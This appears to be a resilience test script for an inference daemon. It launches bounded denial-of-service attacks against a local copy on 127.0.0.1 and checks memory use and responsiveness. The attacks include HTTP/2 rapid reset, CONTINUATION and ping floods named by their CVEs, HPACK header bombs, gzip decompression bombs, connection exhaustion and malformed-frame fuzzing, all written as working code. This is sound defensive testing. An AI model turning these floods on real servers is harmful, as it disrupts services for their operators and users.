"""Attacks on the daemon's transports, from outside and without a key unless said: what they cost it in memory,
and whether it still answers others meanwhile. Bounded in number and time; only ever against a daemon of its own on
127.0.0.1. Standard library only.

    transport_attacks.py [--large | --count N] [NAME...]     all of them, in small, where none is named
"""

import argparse
import contextlib
import pathlib
import random
import re
import resource
import socket
import struct
import sys
import threading
import time
import zlib

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "load"))

import http2  # noqa: E402
from common import Daemon, allow_descriptors  # noqa: E402  (the folder of the load tests)
from heddle_server import TIMEOUT_SCALE  # noqa: E402

KEY = "attack-test-key"
MIB = 1 << 20
LARGEST = 8 * MIB
ATTACKS = {}


def attack(small, large, flags=("--api-key", KEY), peak_mib=400, left_mib=100):
    """Registers an attack that takes (daemon, count); what it may cost above the idle daemon."""

    def register(function):
        ATTACKS[function.__name__] = (function, small, large, flags, peak_mib, left_mib)
        return function

    return register


def http_post(port, path, length, headers=""):
    client = socket.create_connection(("127.0.0.1", port), 10)
    client.sendall(f"POST {path} HTTP/1.1\r\nHost: t\r\nContent-Length: {length}\r\n{headers}\r\n".encode())
    return client


def send_what_is_taken(clients, data, seconds):
    """Sends `data` to all, as far as they take it within the time."""
    left = {client: memoryview(data) for client in clients}
    for client in clients:
        client.setblocking(False)
    end = time.monotonic() + seconds
    while left and time.monotonic() < end:
        moved = False
        for client, rest in list(left.items()):
            try:
                sent = client.send(rest[:MIB])
                moved = True
                left[client] = rest[sent:]
                if not left[client]:
                    del left[client]
            except BlockingIOError:
                pass
            except OSError:
                del left[client]
        if not moved:
            time.sleep(0.01)


# ---- HTTP ----


@attack(small=20, large=400)
def bodies_without_a_key(daemon, count):
    """8 MiB less one byte each: refused by the header."""
    clients = [http_post(daemon.port, "/v1/chat/completions", LARGEST) for _ in range(count)]
    send_what_is_taken(clients, bytes(LARGEST - 1), 10)
    daemon.watch(1)
    for client in clients:
        client.close()


@attack(small=60, large=400, flags=())
def bodies_to_an_open_server(daemon, count):
    """The same where no key is asked for: no more than the budget is ever taken."""
    clients = [http_post(daemon.port, "/v1/chat/completions", LARGEST) for _ in range(count)]
    send_what_is_taken(clients, bytes(LARGEST - 1), 8)
    daemon.watch(3)
    for client in clients:
        client.close()


@attack(small=200, large=3000, flags=())
def headers_that_do_not_end(daemon, count):
    clients = [socket.create_connection(("127.0.0.1", daemon.port), 10) for _ in range(count)]
    for client in clients:
        client.sendall(b"GET / HTTP/1.1\r\nHost: t\r\nX: " + b"a" * 12000)
    daemon.watch(2)
    for client in clients:
        client.close()


@attack(small=30, large=300, flags=())
def chunks_of_one_byte(daemon, count):
    """... with extensions of some kilobytes each."""
    head = b"POST /v1/chat/completions HTTP/1.1\r\nHost: t\r\nTransfer-Encoding: chunked\r\n\r\n"
    chunk = b"1;" + b"x" * 4000 + b"\r\na\r\n"
    for _ in range(count):
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", daemon.port), 10) as client:
            client.sendall(head)
            for _ in range(200):
                client.sendall(chunk)
    daemon.watch(1)


@attack(small=4200, large=9000, flags=("--max-connections", "512"))
def connections_that_say_nothing(daemon, count):
    """More than there may be; the daemon's own clients still get in."""
    clients = []
    for _ in range(count):
        with contextlib.suppress(OSError):
            clients.append(socket.create_connection(("127.0.0.1", daemon.port), 10))
        if len(clients) >= 600:
            clients.pop(0).close()
    daemon.watch(1)
    for client in clients:
        client.close()


@attack(small=200, large=2000, flags=())
def connections_without_descriptors(daemon, count):
    """More than the process has descriptors, far below --max-connections: those that say nothing make room, and the log is not flooded."""
    if TIMEOUT_SCALE > 1:
        return  # UndefinedBehaviorSanitizer opens a pipe to look at an object's type, and takes a failure for a wrong type
    limit = daemon.descriptors() + 40
    resource.prlimit(daemon.process.pid, resource.RLIMIT_NOFILE, (limit, limit))
    clients = []
    for _ in range(count):
        with contextlib.suppress(OSError):
            clients.append(socket.create_connection(("127.0.0.1", daemon.port), 10))
    daemon.watch(1)
    for client in clients:
        client.close()
    lines = sum("cannot accept" in line for line in daemon.log)
    assert 1 <= lines <= 10, f"{lines} lines say that connections cannot be accepted"


# ---- gRPC ----

GENERATE = "/heddle.v1.Inference/Generate"
LIST_MODELS = "/heddle.v1.Inference/ListModels"


@attack(small=5000, large=157000)
def rapid_reset(daemon, count):
    """Calls that are taken back at once (CVE-2023-44487); a new connection when the old one is cut."""
    left = count
    while left > 0:
        with http2.Connection(daemon.grpc_port) as client:
            while left > 0:
                batch = b""
                for _ in range(min(left, 100)):
                    opened, stream = client.open(GENERATE)
                    batch += opened + http2.frame(http2.RST_STREAM, 0, stream, struct.pack(">I", http2.CANCEL))
                left -= 100
                if not client.send(batch):
                    break
    daemon.watch(1)


@attack(small=20, large=150)
def grpc_messages_without_a_key(daemon, count):
    messages_to_grpc(daemon, count)


@attack(small=60, large=150, flags=())
def grpc_messages_to_an_open_server(daemon, count):
    messages_to_grpc(daemon, count)


def messages_to_grpc(daemon, count):
    """A call of 8 MB less one byte on each of `count` connections, sent as far as the server's windows let it."""
    data = http2.message(bytes(LARGEST - 1000))[:-1]

    def call():
        with contextlib.suppress(OSError), http2.Connection(daemon.grpc_port) as client:
            opened, stream = client.open(GENERATE)
            client.send(opened)
            windows = {0: 65535, stream: None}
            at, end = 0, time.monotonic() + 8
            client.socket.settimeout(0.5)
            while at < len(data) and time.monotonic() < end:
                room = min(windows[0], windows[stream] or 0, 16384, len(data) - at)
                if room > 0:
                    if not client.send(http2.frame(http2.DATA, 0, stream, data[at:at + room])):
                        return
                    at += room
                    windows[0] -= room
                    windows[stream] -= room
                    continue
                try:
                    found = client.read_frame()
                except TimeoutError:
                    continue
                if found is None:
                    return
                kind, flags, number, payload = found
                if kind == http2.WINDOW_UPDATE and number in windows:
                    windows[number] = (windows[number] or 0) + struct.unpack(">I", payload)[0]
                elif kind == http2.SETTINGS and not flags & http2.ACK:
                    client.send(http2.frame(http2.SETTINGS, http2.ACK, 0))
                    settings = dict(struct.unpack(">HI", payload[i:i + 6]) for i in range(0, len(payload), 6))
                    windows[stream] = (windows[stream] or 0) + settings.get(4, 65535)
                elif kind == http2.RST_STREAM or (kind == http2.HEADERS and flags & http2.END_STREAM):
                    return
            time.sleep(max(0, end - time.monotonic() - 4))

    threads = [threading.Thread(target=call) for _ in range(count)]
    for thread in threads:
        thread.start()
    while any(thread.is_alive() for thread in threads):
        daemon.watch(0.2)


@attack(small=50000, large=2000000)
def pings_and_settings(daemon, count):
    """Frames that carry nothing, and whose answers are not read (CVE-2019-9512, -9515)."""
    kinds = [http2.frame(http2.PING, 0, 0, bytes(8)), http2.frame(http2.SETTINGS, 0, 0),
             http2.frame(http2.WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)),
             http2.frame(http2.PRIORITY, 0, 1, struct.pack(">IB", 0, 1))]
    left = count
    while left > 0:
        with http2.Connection(daemon.grpc_port) as client:
            kind = kinds[left // 1000 % len(kinds)] * 1000
            while left > 0:
                left -= 1000
                if not client.send(kind):
                    break
    daemon.watch(1)


@attack(small=20, large=500)
def continuations(daemon, count):
    """Header blocks without an end (CVE-2024-27316)."""
    for _ in range(count):
        with http2.Connection(daemon.grpc_port) as client:
            client.send(http2.frame(http2.HEADERS, 0, 1, http2.header_block(GENERATE)))
            piece = http2.frame(http2.CONTINUATION, 0, 1, http2.literal("x", "y" * 100) * 100)
            for _ in range(200):
                if not client.send(piece):
                    break
    daemon.watch(1)


@attack(small=50, large=1000)
def header_bombs(daemon, count):
    """A header of some kilobytes in the table, and thousands of references to it in each block."""
    value = b"v" * 3000
    entry = b"\x40\x01b\x7f" + bytes([(len(value) - 127) % 128 + 128, (len(value) - 127) // 128]) + value
    for _ in range(count):
        with http2.Connection(daemon.grpc_port) as client:
            block = http2.header_block(GENERATE) + entry + b"\xbe" * 12000
            for stream in range(1, 40, 2):
                if not client.send(http2.frame(http2.HEADERS, http2.END_HEADERS, stream, block)):
                    break
    daemon.watch(1)


@attack(small=10, large=200, flags=())
def compressed_messages(daemon, count):
    """Kilobytes that become gigabytes."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    zipped = packer.compress(bytes(256 * MIB)) + packer.flush()
    for _ in range(count):
        with contextlib.suppress(OSError), http2.Connection(daemon.grpc_port) as client:
            opened, stream = client.open(GENERATE, [("grpc-encoding", "gzip")])
            data = http2.message(zipped, compressed=1)
            client.send(opened)
            for at in range(0, min(len(data), 60000), 16384):
                client.send(http2.frame(http2.DATA, 0, stream, data[at:at + 16384]))
            time.sleep(0.05)
            for at in range(60000 // 16384 * 16384 + 16384, len(data), 16384):
                if not client.send(http2.frame(http2.DATA, 0, stream, data[at:at + 16384])):
                    break
    daemon.watch(1)


@attack(small=400, large=3000)
def streams_that_stay_open(daemon, count):
    """Calls without a message, of methods that need no key, on many connections."""
    clients = []
    for _ in range(max(1, count // 100)):
        client = http2.Connection(daemon.grpc_port)
        clients.append(client)
        for _ in range(100):
            if not client.send(client.open("/grpc.health.v1.Health/Watch")[0]):
                break
    daemon.watch(2)
    for client in clients:
        client.socket.close()


@attack(small=300, large=20000)
def frames_of_chance(daemon, count):
    """Malformed frames of all kinds, with the seed that makes them again."""
    for seed in range(count):
        chance = random.Random(seed)
        with contextlib.suppress(OSError), http2.Connection(daemon.grpc_port, preface=chance.random() < 0.95) as client:
            data = b""
            for _ in range(chance.randrange(1, 12)):
                payload = chance.randbytes(chance.choice([0, 1, 4, 5, 6, 8, 9, 100, 16384, 20000]))
                kind, flags = chance.randrange(0, 12), chance.randrange(0, 64)
                stream = chance.choice([0, 1, 1, 3, 5, 2, 7, 1 << 31 | 9])
                if kind == http2.HEADERS and chance.random() < 0.7:
                    payload = http2.header_block(chance.choice([GENERATE, LIST_MODELS, "/x", ""]))
                piece = http2.frame(kind, flags, stream, payload)
                data += piece[:chance.randrange(len(piece))] if chance.random() < 0.05 else piece
            client.send(data)
    daemon.watch(1)


class Target(Daemon):
    """The daemon under attack, and what it costs it."""

    def __init__(self, *flags):
        super().__init__("--grpc-port", "0", "--log-level", "warning", *flags)
        self.grpc_port = int(re.search(r"gRPC +127\.0\.0\.1:(\d+)", "\n".join(self._wait_for_line("gRPC"))).group(1))
        self.slowest = 0
        self.ask()

    def _wait_for_line(self, word):
        while not any(word in line for line in self.log):
            time.sleep(0.01)
        return list(self.log)

    def ask(self):
        """A plain client's question meanwhile."""
        began = time.monotonic()
        status, _, _ = self.request("GET", "/health", timeout=20)
        self.slowest = max(self.slowest, time.monotonic() - began)
        assert status == 200, f"/health answered {status}"

    def watch(self, seconds):
        end = time.monotonic() + seconds
        while True:
            self.ask()
            if time.monotonic() >= end:
                return
            time.sleep(0.1)


def settled(daemon, goal_mib, seconds):
    """RSS once it is below the goal, or when the time is over."""
    end = time.monotonic() + seconds
    while daemon.memory_mib() > goal_mib and time.monotonic() < end:
        time.sleep(0.2)
    return daemon.memory_mib()


def run(name, options):
    function, small, large, flags, peak_limit, left_limit = ATTACKS[name]
    count = options.count or (large if options.large else small)
    with Target(*flags) as daemon:
        idle = daemon.memory_mib()
        pathlib.Path(f"/proc/{daemon.process.pid}/clear_refs").write_text("5")  # VmHWM begins anew
        began = time.monotonic()
        function(daemon, count)
        seconds = time.monotonic() - began
        after = settled(daemon, idle + 40, 15)
        peak = daemon.memory_mib("VmHWM")
        daemon.ask()
        faults = []
        if peak - idle > peak_limit:
            faults.append(f"its peak may be {peak_limit} MiB above idle")
        if after - idle > left_limit:
            faults.append(f"{left_limit} MiB above idle may stay")
        if daemon.slowest > 2:
            faults.append("a plain client may wait 2 s")
        print(f"{name}: {count} in {seconds:.1f} s: idle {idle:.0f} MiB, peak {peak:.0f}, after {after:.0f}; "
              f"slowest plain answer {daemon.slowest:.2f} s{'; FAULT: ' if faults else ''}{', '.join(faults)}",
              flush=True)
        status = daemon.stop(timeout=30)
        if status != 0:
            faults.append(f"it ended with {status}")
        return not faults


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--large", action="store_true", help="the sizes that once brought the daemon down")
    parser.add_argument("--count", type=int, help="how many of what each attack counts")
    parser.add_argument("names", nargs="*", metavar="NAME")
    arguments = parser.parse_args()
    allow_descriptors()
    names = arguments.names or ATTACKS
    sys.exit(0 if all([run(name, arguments) for name in names]) else 1)


if __name__ == "__main__":
    main()
